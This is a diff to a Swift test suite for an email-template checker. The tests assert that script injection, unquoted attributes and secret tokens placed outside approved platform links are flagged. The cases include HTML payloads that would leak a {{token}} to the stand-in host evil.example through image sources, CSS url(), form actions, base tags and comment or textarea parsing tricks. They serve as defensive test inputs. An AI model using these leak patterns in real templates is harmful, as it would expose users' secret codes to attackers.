@@ -151,9 +151,74 @@ import Testing
       ("<a {{#if flag}}href=\"{{else}}title=\"{{/if}}{{a}}\">", "not_a_url"),
       ("<p title={{a}}>", "unquoted_attribute"), ("<p title=\"{{a}}\">x = {{a}}</p>", nil),
       ("<SCRIPT>{{a}}</SCRIPT>", "script"), ("<style>p{}</style>", "script"),
-      ("<a href=\"JavaScript:x\">", "script"),
+      ("<a href=\"JavaScript:x\">", "script"), ("<p title=\">\" class={{a}}>", "unquoted_attribute"),
+      ("<p {{a}}>", "unquoted_attribute"), ("<p {{a}}=\"\">", "unquoted_attribute"), ("<{{a}}>", "unquoted_attribute"),
+      ("<p title=\"\"{{a}}>", "unquoted_attribute"), ("<!-- {{a}} -->", "markup"), ("<!-->{{a}}<!---->{{a}}", nil),
+      ("<p OnClick=\"x\">", "script"), ("<p title=''onload=\"{{a}}\">", "script"), ("<p/onload>", "script"),
+      ("<scr{{#if flag}}{{/if}}ipt>", "script"), ("<textarea><p title=\"</textarea>{{a}}\">", "markup"),
+      ("<title>{{a}}</title>{{a}}", nil), ("<title><p title=\"</title>", "markup"), ("a < b {{a}}", nil),
+      ("<!DOCTYPE html>{{a}}", nil), ("<img srcset=\"{{a}}\">", "not_a_url"), ("<a ping=\"x\">", "markup"),
     ] as [(String, String?)] {
       #expect(try codes(source, html: true) == (code.map { [$0] } ?? []), "\(source)")
+    }
+  }
+
+  @Test("a secret stands in text, or in a link to the platform, and nowhere else")
+  func secrets() throws {
+    let variables = Dictionary(
+      uniqueKeysWithValues: [
+        TemplateVariable("token", .secret), TemplateVariable("a"), TemplateVariable("link", .url),
+        TemplateVariable("flag", .boolean),
+      ].map { ($0.name, $0) })
+    func codes(_ source: String, html: Bool, platform: String? = "https://shop.example") throws -> [String] {
+      TemplateChecker.faults(in: try TemplateParser.parse(source), variables, isHTML: html, platform: platform)
+        .map(\.code)
+    }
+    for source in [
+      "Your code: {{token}}", "Code:{{token}}.", "({{token}})", "https://shop.example/reset?token={{token}}",
+      "HTTPS://SHOP.EXAMPLE/#{{token}}", "Look at https://evil.example. {{token}}",
+    ] {
+      #expect(try codes(source, html: false) == [], "\(source)")
+      #expect(try codes("<p>\(source)</p>", html: true) == [], "\(source)")
+    }
+    for source in [
+      "https://evil.example/?{{token}}", "evil.example/{{token}}", "{{link}}{{token}}", "me@{{token}}",
+      "https://shop.example.evil.example/{{token}}", "https://shop.example@evil.example/{{token}}",
+      "https://shop.example{{token}}", "{{#if flag}}https://evil.example/{{/if}}{{token}}",
+      "https://shop.example/\(String(repeating: "x", count: 500)){{token}}",
+    ] {
+      #expect(try codes(source, html: false) == ["secret"], "\(source)")
+      #expect(try codes("<p>\(source)</p>", html: true) == ["secret"], "\(source)")
+      #expect(try codes("<a href=\"\(source)\">x</a>", html: true) == ["secret"], "\(source)")
+    }
+    for source in [
+      "<a href=\"https://shop.example/reset?token={{token}}\">x</a>", "<p title=\"https://evil.example\">{{token}}</p>",
+      "<a class='x' href='https://shop.example/?a=b&amp;t={{token}}&c'>x</a>", "<b>{{token}}</b>",
+    ] {
+      #expect(try codes(source, html: true) == [], "\(source)")
+      let isLink = source.contains("shop.example")
+      #expect(try codes(source, html: true, platform: nil) == (isLink ? ["secret"] : []), "\(source)")
+    }
+    let filler = String(repeating: "y", count: 1_000)
+    for source in [
+      "<img src=\"https://evil.example/?{{token}}\">", "<img src='https://shop.example/?{{token}}'>",
+      "<a href=\"{{token}}\">x</a>", "<a href=\"{{link}}?{{token}}\">x</a>", "<p title=\"{{token}}\">",
+      "<p style=\"background:url(https://evil.example/?{{token}})\">", "<img src=\"https://evil.example/?{{token}}",
+      "<img src=\"https://evil.example/?\(filler){{token}}\">",
+      "<img alt=\">\" src=\"https://evil.example/?{{token}}\">",
+      "<input value=\"{{token}}\">", "<a href=\"https://shop.example/><img src='https://evil.example/?{{token}}'>\">",
+      "<img alt=\"\u{301}\" src=\"https://evil.example/?{{token}}\">",
+    ] {
+      #expect(try codes(source, html: true) == ["secret"], "\(source)")
+    }
+    for source in [
+      "<!--[if mso]><img src=\"https://evil.example/?{{token}}\"><![endif]-->",
+      "<!--> <img src=\"https://evil.example/?--> {{token}}\">",
+      "<form action=\"https://evil.example\">{{token}}</form>",
+      "<base href=\"https://evil.example/\"><a href=\"x?{{token}}\">x</a>",
+      "<textarea><a title=\"</textarea><img src=\"https://evil.example/?>{{token}}\">",
+    ] {
+      #expect(try !codes(source, html: true).isEmpty, "\(source)")
     }
   }
 
@@ -197,7 +262,8 @@ import Testing
   func builtIn() throws {
     #expect(
       BuiltInTemplates.names == [
-        "account.deletion_cancelled", "account.deletion_requested", "auth.already_registered", "auth.email_change",
+        "account.deletion_cancelled", "account.deletion_requested", "auth.already_registered",
+        "auth.api_key_created", "auth.email_change",
         "auth.email_changed", "auth.email_replaced", "auth.email_wanted", "auth.identity_linked",
         "auth.passkey_added", "auth.passkey_removed", "auth.recovery", "auth.recovery_code_used",
         "auth.second_factor_added", "auth.second_factor_removed", "auth.verification",
